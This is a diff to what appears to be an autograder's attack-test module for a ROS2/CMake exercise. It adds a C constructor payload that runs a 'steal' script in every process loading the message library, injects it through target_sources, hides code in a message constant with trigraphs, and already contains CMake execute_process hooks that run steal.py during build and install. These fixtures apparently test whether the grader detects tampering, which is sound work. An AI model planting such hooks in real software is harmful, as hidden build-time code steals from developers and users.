@@ -1,7 +1,8 @@
-"""An attack on 03: CMake that runs code while messages are built."""
+"""Attacks on 03: CMake that runs code while messages are built, and code in the messages' own library."""
 
 from __future__ import annotations
 
+import json
 import time
 
 from autograder.proof.attack_writer import Chapter
@@ -15,6 +16,18 @@ STEAL = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py 
 message(WARNING "${loot}")
 install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py)")
 """
+# Runs in each process that loads the library of the messages.
+PAYLOAD = """
+#include <sys/wait.h>
+#include <unistd.h>
+__attribute__((constructor)) static void steal(void) {{
+    pid_t child = fork();
+    if (child == 0) execlp("python3", "python3", "-c", {script}, (char *) 0);
+    waitpid(child, 0, 0);
+}}
+"""
+# A constant's text that is code where a compiler knows trigraphs: `??/` is a backslash there.
+TRIGRAPH = "string EVIL='??/\"; namespace { struct Z { Z() { __builtin_trap(); } } z; } //'\n"
 
 
 def attacks() -> tuple[Attack, ...]:
@@ -27,5 +40,16 @@ def attacks() -> tuple[Attack, ...]:
             CHAPTER.write("default_qos", swaps={CMAKE: (END, STEAL + END)}, files={f"{HOME}/steal.py": steal}),
             CHAPTER.mutant("default_qos").fails,
             exactly=True,
+        ),
+        Attack(
+            "definition thief",
+            "a text in a definition that is code to some compilers; code in the library of the messages steals",
+            CHAPTER.write(
+                "misspelt_topic",
+                heads={f"{HOME}/msg/RobotStatus.msg": TRIGRAPH},
+                swaps={CMAKE: (END, f"target_sources(${{PROJECT_NAME}}__rosidl_generator_c PRIVATE steal.c)\n{END}")},
+                files={f"{HOME}/steal.c": PAYLOAD.format(script=json.dumps(steal))},
+            ),
+            CHAPTER.mutant("misspelt_topic").fails,
         ),
     )
